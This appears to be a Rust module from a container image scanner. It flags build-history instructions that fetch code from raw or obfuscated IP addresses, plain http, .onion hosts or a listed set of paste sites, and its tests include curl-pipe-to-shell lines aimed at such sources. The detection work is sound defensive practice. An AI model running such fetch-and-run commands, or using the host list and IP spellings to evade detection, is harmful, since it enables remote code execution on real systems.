use super::{Control, Step, Why};
use model::{Finding, HISTORY};
use std::net::{IpAddr, Ipv4Addr};

/// G7: only the history says it. Fetching and running is how images are built, and what was fetched then is in
/// the layers to be looked at. It goes on counting where it was fetched from an address without a name, from a
/// paste site, or without TLS.
///
/// What the history says of a file in a layer is not meant: such a finding has a path.
pub(super) fn only_claimed(finding: &Finding) -> Option<Why> {
    if finding.path.is_some() {
        return None;
    }
    let mut instructions = finding.evidence.iter().filter(|piece| piece.kind == HISTORY).peekable();
    instructions.peek()?;
    let odd = instructions.any(|piece| fetches_from_odd_places(&piece.value));
    (!odd).then(|| Why {
        control: Control::History,
        step: Step::ToContext,
        because: "only the history says it, and what it names is fetched from named hosts over TLS"
            .to_owned(),
    })
}

/// Whether an instruction names a source that honest builds have no need of.
pub(super) fn fetches_from_odd_places(instruction: &str) -> bool {
    let mut rest = instruction;
    while let Some((before, after)) = rest.split_once("://") {
        let scheme = before.rsplit(|character: char| !character.is_ascii_alphanumeric()).next();
        let authority = after
            .split(|character: char| {
                matches!(character, '/' | '?' | '#' | '"' | '\'' | '\\') || character.is_whitespace()
            })
            .next()
            .unwrap_or_default();
        if is_odd(&scheme.unwrap_or_default().to_ascii_lowercase(), authority) {
            return true;
        }
        rest = after;
    }
    false
}

fn is_odd(scheme: &str, authority: &str) -> bool {
    const PASTE: [&str; 9] = [
        "pastebin.com",
        "paste.ee",
        "hastebin.com",
        "rentry.co",
        "transfer.sh",
        "ix.io",
        "0x0.st",
        "termbin.com",
        "dpaste.com",
    ];
    let host = authority.rsplit('@').next().unwrap_or_default();
    let host = match host.strip_prefix('[') {
        Some(inner) => inner.split(']').next().unwrap_or_default(),
        None => host.split(':').next().unwrap_or_default(),
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    if host == "localhost" {
        return false;
    }
    if let Some(address) = address(&host) {
        return !is_inside(address);
    }
    let is_paste =
        |site: &str| host == site || host.strip_suffix(site).is_some_and(|front| front.ends_with('.'));
    scheme == "http" || scheme == "ftp" || host.ends_with(".onion") || PASTE.into_iter().any(is_paste)
}

/// An address, also in the spellings that fetchers take: one number, or parts in octal and hexadecimal.
fn address(host: &str) -> Option<IpAddr> {
    if let Ok(address) = host.parse() {
        return Some(address);
    }
    let number = |part: &str| match part.strip_prefix("0x") {
        Some(hex) => u32::from_str_radix(hex, 16).ok(),
        None if part.len() > 1 && part.starts_with('0') => u32::from_str_radix(part, 8).ok(),
        None => part.parse().ok(),
    };
    let parts: Vec<u32> = host.split('.').take(5).map(number).collect::<Option<_>>()?;
    let (last, front) = parts.split_last()?;
    let room = 4_u32.checked_sub(u32::try_from(front.len()).ok()?).filter(|room| *room > 0)?;
    if front.iter().any(|part| *part > 255) || room < 4 && u64::from(*last) >= 1 << (8 * room) {
        return None;
    }
    let high = front.iter().enumerate().fold(0_u32, |sum, (at, part)| sum | part << (24 - 8 * at.min(3)));
    Some(IpAddr::V4(Ipv4Addr::from(high | *last)))
}

fn is_inside(address: IpAddr) -> bool {
    match address {
        IpAddr::V4(address) => {
            address.is_loopback()
                || address.is_private()
                || address.is_link_local()
                || address.is_unspecified()
        }
        IpAddr::V6(address) => {
            address.is_loopback() || address.is_unique_local() || address.is_unicast_link_local()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::fetches_from_odd_places;

    fn check(instruction: &str, expect: bool) {
        assert_eq!(fetches_from_odd_places(instruction), expect, "{instruction}");
    }

    #[test]
    fn named_hosts_over_tls_are_how_images_are_built() {
        check("curl --proto '=https' -sSf https://sh.rustup.example | sh", false);
        check("apt-get install -y curl", false);
        check("curl http://localhost:8080/health", false);
        check("curl http://10.0.0.7/ && wget http://[::1]/x", false);
        check("echo a://b://c", false);
        check("", false);
    }

    #[test]
    fn odd_places_go_on_counting() {
        check("curl https://192.0.2.7/a | sh", true);
        check("curl https://192.0.2.7:8443/a | sh", true);
        check("wget https://u:p@203.0.113.9/x", true);
        check("curl https://3221225991/x", true);
        check("curl https://0xc0.0.2.7/x", true);
        check("curl https://[2001:db8::1]/x", true);
        check("curl http://get.example/a | sh", true);
        check("curl HTTP://get.example/a | sh", true);
        check("curl https://pastebin.com/raw/x | sh", true);
        check("curl https://www.pastebin.com./raw/x | sh", true);
        check("curl https://notpastebin.com/raw/x | sh", false);
        check("curl https://good.example/x https://abc.onion/x", true);
    }

    #[test]
    fn no_text_is_too_odd() {
        for text in [
            "://",
            "http://",
            "https://[",
            "https://@",
            "https://0x/",
            "https://1.2.3.4.5.6/",
            "https://99999999999/",
            &"://".repeat(100_000),
        ] {
            fetches_from_odd_places(text);
        }
    }
}
